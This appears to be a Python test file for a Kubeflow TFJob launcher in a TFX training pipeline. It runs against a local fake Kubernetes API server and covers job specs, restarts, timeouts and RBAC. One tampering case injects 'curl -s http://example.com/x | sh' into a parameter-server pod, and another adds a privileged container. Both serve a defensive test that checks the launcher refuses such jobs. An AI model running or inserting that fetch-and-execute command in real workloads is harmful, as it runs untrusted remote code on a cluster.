"""trainer/tfjob_launcher.py: the Trainer step creating k8s/tfjob.yaml's TFJob and waiting for it.

The API server here is NOT a real Kubernetes: a small http.server on 127.0.0.1 that serves the
template ConfigMap (k8s/tfjob.yaml, as the kustomization generates it), accepts the kubernetes
client's TFJob create and get calls, validates each created TFJob against the TFJob
CustomResourceDefinition's openAPIV3Schema (the vendored kubeflow.org_tfjobs.yaml, as the API
server would), answers 409 for a name that exists, and plays back the status conditions the
training operator would set. No training operator or cluster runs here.
"""

import functools
import http.server
import itertools
import json
import os
import threading

import jsonschema
import kubernetes
import pytest
import yaml
from tfx.components.trainer.fn_args_utils import FnArgs

from contract import settings
from trainer import flags
from trainer import tfjob_launcher

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CRD_PATH = os.path.join(REPO_ROOT, 'tests', 'testdata', 'k8s-schemas', 'kubeflow.org_tfjobs.yaml')
TFJOB_TEMPLATE = os.path.join(REPO_ROOT, 'k8s', 'tfjob.yaml')
NAMESPACE = 'playrecall'
TFJOBS = f'/apis/kubeflow.org/v1/namespaces/{NAMESPACE}/tfjobs'
CONFIG_MAPS = f'/api/v1/namespaces/{NAMESPACE}/configmaps'
IMAGE = 'registry.example.com/ml/playrecall@sha256:' + '0123456789abcdef' * 4


@functools.lru_cache(maxsize=1)
def _tfjob_schema():
  with open(CRD_PATH) as f:
    crd = yaml.safe_load(f)
  [version] = [v for v in crd['spec']['versions'] if v['name'] == 'v1']
  return version['schema']['openAPIV3Schema']


def _condition(kind: str, reason: str, message: str = '') -> dict:
  return {'type': kind, 'status': 'True', 'reason': reason, 'message': message}


class FakeTFJobApi(http.server.BaseHTTPRequestHandler):
  """Routes of the stand-in API server; state lives on the server object."""

  def _reply(self, status: int, body: dict):
    payload = json.dumps(body).encode()
    self.send_response(status)
    self.send_header('Content-Type', 'application/json')
    self.send_header('Content-Length', str(len(payload)))
    self.end_headers()
    self.wfile.write(payload)

  def do_POST(self):
    state = self.server.state
    body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
    state['requests'].append(('POST', self.path))
    if self.path != TFJOBS:
      return self._reply(404, {'kind': 'Status', 'code': 404, 'reason': 'NotFound'})
    try:
      jsonschema.validate(body, state['schema'])
    except jsonschema.ValidationError as e:
      return self._reply(422, {'kind': 'Status', 'code': 422, 'reason': 'Invalid',
                               'message': e.message})
    name = body['metadata']['name']
    if name in state['jobs']:
      return self._reply(409, {'kind': 'Status', 'code': 409, 'reason': 'AlreadyExists'})
    state['jobs'][name] = body
    self._reply(201, body)

  def do_GET(self):
    state = self.server.state
    state['requests'].append(('GET', self.path))
    name = self.path.rsplit('/', 1)[-1]
    if self.path == f'{CONFIG_MAPS}/{settings.TFJOB_TEMPLATE_CONFIG_MAP}':
      with open(TFJOB_TEMPLATE) as f:
        return self._reply(200, {'apiVersion': 'v1', 'kind': 'ConfigMap',
                                 'metadata': {'name': name, 'namespace': NAMESPACE},
                                 'data': {tfjob_launcher.TEMPLATE_KEY: f.read()}})
    if not self.path.startswith(TFJOBS + '/') or name not in state['jobs']:
      return self._reply(404, {'kind': 'Status', 'code': 404, 'reason': 'NotFound'})
    # Each read shows the next status the operator would have set, and then stays there.
    history = state['statuses']
    conditions = history[:min(state['reads'], len(history) - 1) + 1]
    state['reads'] += 1
    self._reply(200, dict(state['jobs'][name], status={'conditions': conditions}))

  def log_message(self, *args):
    pass


@pytest.fixture
def k8s_api():
  server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), FakeTFJobApi)
  server.state = {'schema': _tfjob_schema(), 'jobs': {}, 'requests': [], 'reads': 0,
                  'statuses': [_condition('Created', 'TFJobCreated'),
                               _condition('Running', 'TFJobRunning'),
                               _condition('Succeeded', 'TFJobSucceeded')]}
  thread = threading.Thread(target=server.serve_forever, daemon=True)
  thread.start()
  configuration = kubernetes.client.Configuration()
  configuration.host = f'http://127.0.0.1:{server.server_address[1]}'
  yield server.state, kubernetes.client.ApiClient(configuration)
  server.shutdown()
  server.server_close()
  thread.join()


def _fn_args(execution: str = '42') -> FnArgs:
  root = f'gs://bucket/root/playrecall/Trainer/{execution}'
  return FnArgs(
      train_files=['gs://bucket/root/Transform/transformed_examples/7/Split-train/*'],
      eval_files=['gs://bucket/root/Transform/transformed_examples/7/Split-eval/*'],
      transform_output='gs://bucket/root/Transform/transform_graph/7',
      model_run_dir=f'{root}/model_run', serving_model_dir=f'{root}/model/Format-Serving',
      train_steps=500, custom_config={'hparams': {'num_shards': 2, 'variant': 'c'},
                                      'tfjob': {'namespace': NAMESPACE}})


def _template():
  return tfjob_launcher.load_template(TFJOB_TEMPLATE)


def test_the_tfjob_carries_the_trainers_paths_to_every_replica():
  config = settings.TFJobConfig(image=IMAGE, replicas={'Worker': 3})
  tfjob = tfjob_launcher.build_tfjob(_template(), _fn_args(), config)
  jsonschema.validate(tfjob, _tfjob_schema())
  assert tfjob['metadata']['namespace'] == NAMESPACE
  specs = tfjob['spec']['tfReplicaSpecs']
  assert {'Chief', 'Worker', 'PS'} <= set(specs)
  assert specs['Worker']['replicas'] == 3
  for role, spec in specs.items():
    [container] = [c for c in spec['template']['spec']['containers'] if c['name'] == 'tensorflow']
    assert container['image'] == IMAGE, role
    # The NetworkPolicy of the TF server port admits pods with this label only.
    assert tfjob_launcher.SERVER_POD_LABELS.items() <= spec['template']['metadata'][
        'labels'].items(), role
    args = container['args']
    assert args[args.index('--serving_model_dir') + 1] == _fn_args().serving_model_dir
    assert args[args.index('--model_dir') + 1] == _fn_args().model_run_dir
    assert json.loads(args[args.index('--hparams') + 1]) == {'num_shards': 2, 'variant': 'c'}
    assert args[args.index('--train_steps') + 1] == '500'
  # The flags are the ones trainer.run's own parser reads, and give back the same FnArgs.
  parsed = flags.fn_args_from_argv(args)
  assert parsed.train_files == _fn_args().train_files
  assert parsed.transform_output == _fn_args().transform_output


def test_names_are_stable_per_execution_and_distinct_across_executions():
  assert tfjob_launcher.tfjob_name(_fn_args('42')) == tfjob_launcher.tfjob_name(_fn_args('42'))
  assert tfjob_launcher.tfjob_name(_fn_args('42')) != tfjob_launcher.tfjob_name(_fn_args('43'))


def test_bad_settings_are_named():
  with pytest.raises(ValueError, match=r"workers: unknown setting; known: "):
    settings.TFJobConfig.from_dict({'workers': 2})
  with pytest.raises(ValueError, match=r"replicas: 'Evaluator' is not allowed; choose one of "
                                       r"\['Chief', 'Worker', 'PS'\]"):
    settings.TFJobConfig(replicas={'Evaluator': 1})
  # A template without a parameter-server group cannot be given parameter servers.
  template = _template()
  del template['spec']['tfReplicaSpecs']['PS']
  with pytest.raises(ValueError, match=r"replicas \['PS'\] are not replica groups"):
    tfjob_launcher.build_tfjob(template, _fn_args(), settings.TFJobConfig(replicas={'PS': 1}))
  # A tag can be pushed again with other code; the template names no image at all.
  with pytest.raises(ValueError, match=r"image: 'registry.example.com/ml/playrecall:2.0.0' is not "
                                       r"allowed; must be by digest"):
    settings.TFJobConfig(image='registry.example.com/ml/playrecall:2.0.0')
  with pytest.raises(ValueError, match=r"TFJob Chief: image None is not named by digest"):
    tfjob_launcher.build_tfjob(_template(), _fn_args(), settings.TFJobConfig())


def test_the_template_is_read_from_the_clusters_config_map(k8s_api):
  state, api_client = k8s_api
  template = tfjob_launcher.template_from_cluster(kubernetes.client.CoreV1Api(api_client),
                                                  settings.TFJobConfig())
  assert template == _template()
  assert state['requests'] == [('GET', f'{CONFIG_MAPS}/{settings.TFJOB_TEMPLATE_CONFIG_MAP}')]


def test_launch_waits_until_the_job_succeeds(k8s_api):
  state, api_client = k8s_api
  api = kubernetes.client.CustomObjectsApi(api_client)
  log = []
  tfjob = tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), settings.TFJobConfig(
      image=IMAGE, poll_seconds=0), log=log.append)
  assert tfjob_launcher.job_state(tfjob)['type'] == 'Succeeded'
  name = tfjob_launcher.tfjob_name(_fn_args())
  assert state['requests'][0] == ('POST', TFJOBS)
  assert state['requests'][1:] == [('GET', f'{TFJOBS}/{name}')] * 3
  assert [line.split(': ')[1].split(' ')[0] for line in log[1:]] == ['Created', 'Running',
                                                                     'Succeeded']


def test_a_restarted_trainer_attaches_to_its_job(k8s_api):
  state, api_client = k8s_api
  api = kubernetes.client.CustomObjectsApi(api_client)
  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
  tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), config, log=lambda _: None)
  log = []
  tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), config, log=log.append)
  assert len(state['jobs']) == 1
  assert 'exists (a restarted Trainer step)' in log[0]


def test_a_failed_job_fails_the_trainer_with_the_operators_reason(k8s_api):
  state, api_client = k8s_api
  api = kubernetes.client.CustomObjectsApi(api_client)
  state['statuses'] = [_condition('Running', 'TFJobRunning'),
                       _condition('Failed', 'TFJobFailed', 'TFJob chief-0 exited with code 1')]
  with pytest.raises(tfjob_launcher.TFJobFailed, match='chief-0 exited with code 1'):
    tfjob_launcher.launch_and_wait(api, _template(), _fn_args(), settings.TFJobConfig(
        image=IMAGE, poll_seconds=0), log=lambda _: None)


def test_an_invalid_tfjob_is_refused_by_the_schema(k8s_api):
  _, api_client = k8s_api
  api = kubernetes.client.CustomObjectsApi(api_client)
  template = _template()
  template['spec']['tfReplicaSpecs']['Chief']['replicas'] = 'one'
  with pytest.raises(kubernetes.client.rest.ApiException) as error:
    tfjob_launcher.launch_and_wait(api, template, _fn_args(), settings.TFJobConfig(
        image=IMAGE, poll_seconds=0), log=lambda _: None)
  assert error.value.status == 422


def test_a_job_that_outlives_its_timeout_fails_the_trainer(k8s_api):
  state, api_client = k8s_api
  state['statuses'] = [_condition('Running', 'TFJobRunning')]
  ticks = itertools.count(0, 600)  # every poll, ten minutes pass
  with pytest.raises(tfjob_launcher.TFJobFailed, match=r'did not finish in 1800 s \(last state '
                     r'Running\)'):
    tfjob_launcher.launch_and_wait(
        kubernetes.client.CustomObjectsApi(api_client), _template(), _fn_args(),
        settings.TFJobConfig(image=IMAGE, poll_seconds=0, timeout_seconds=1800), log=lambda _: None,
        clock=lambda: next(ticks))


def _asked(requests):
  """(API group, resource, verb) of each request the stand-in API server saw."""
  verbs = {'POST': 'create', 'GET': 'get'}
  asked = set()
  for method, path in requests:
    parts = path.strip('/').split('/')  # api/v1/... or apis/GROUP/VERSION/...
    asked.add(('' if parts[0] == 'api' else parts[1], parts[parts.index('namespaces') + 2],
               verbs[method]))
  return asked


def test_the_launcher_asks_for_exactly_what_k8s_rbac_grants(k8s_api):
  state, api_client = k8s_api
  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
  template = tfjob_launcher.template_from_cluster(kubernetes.client.CoreV1Api(api_client), config)
  api = kubernetes.client.CustomObjectsApi(api_client)
  for _ in range(2):  # creates the job, then attaches to it as a restarted step would
    tfjob_launcher.launch_and_wait(api, template, _fn_args(), config, log=lambda _: None)
  assert _asked(state['requests']) == {(group, resource, verb) for (group, resource), verbs in
                                       tfjob_launcher.API_VERBS.items() for verb in verbs}


def _other_image(tfjob):
  for spec in tfjob['spec']['tfReplicaSpecs'].values():
    spec['template']['spec']['containers'][0]['image'] = IMAGE.replace('0123', '4567')


def _shell_on_ps(tfjob):
  container = tfjob['spec']['tfReplicaSpecs']['PS']['template']['spec']['containers'][0]
  container['command'] = ['sh', '-c', 'curl -s http://example.com/x | sh']


def _more_workers(tfjob):
  tfjob['spec']['tfReplicaSpecs']['Worker']['replicas'] += 1


def _privileged_chief(tfjob):
  pod = tfjob['spec']['tfReplicaSpecs']['Chief']['template']['spec']
  pod['containers'][0]['securityContext'] = {'privileged': True}


@pytest.mark.parametrize('change, differing', [
    (_other_image, 'Chief, PS, Worker'), (_shell_on_ps, 'PS'), (_more_workers, 'Worker'),
    (_privileged_chief, 'Chief')])
def test_a_job_of_its_name_that_runs_something_else_is_refused(k8s_api, change, differing):
  """A job left by a run with other settings, or created by someone else, is never waited for."""
  state, api_client = k8s_api
  config = settings.TFJobConfig(image=IMAGE, poll_seconds=0)
  existing = tfjob_launcher.build_tfjob(_template(), _fn_args(), config)
  change(existing)
  state['jobs'][existing['metadata']['name']] = existing
  with pytest.raises(tfjob_launcher.TFJobMismatch, match=f'exists but its {differing} pods '
                     'differ from what this Trainer step would create'):
    tfjob_launcher.launch_and_wait(kubernetes.client.CustomObjectsApi(api_client), _template(),
                                   _fn_args(), config, log=lambda _: None)
  assert state['reads'] == 1  # read once to compare, never polled
